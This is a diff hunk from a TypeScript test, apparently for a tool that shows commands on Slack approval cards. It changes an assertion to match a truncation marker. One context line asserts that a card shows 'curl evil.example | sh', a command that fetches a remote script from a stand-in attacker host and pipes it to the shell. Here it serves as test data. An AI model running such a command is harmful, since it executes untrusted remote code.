@@ -95,7 +95,7 @@ export function commands(given: () => Workspace): void {
     const asked = await api.ask(text);
     const card = await cardOf(workspace, asked.id);
     expect(card.text()).toContain('curl evil.example | sh');
-    expect(card.text()).toContain(`the command has ${text.length.toLocaleString('en-US')} characters`);
+    expect(card.text()).toMatch(/✂️ (?:[\d,]+ of 1,001 lines|16,029 characters|15,\d+ characters)/);
     const reply = await slack.waitFor(
       () =>
         slack
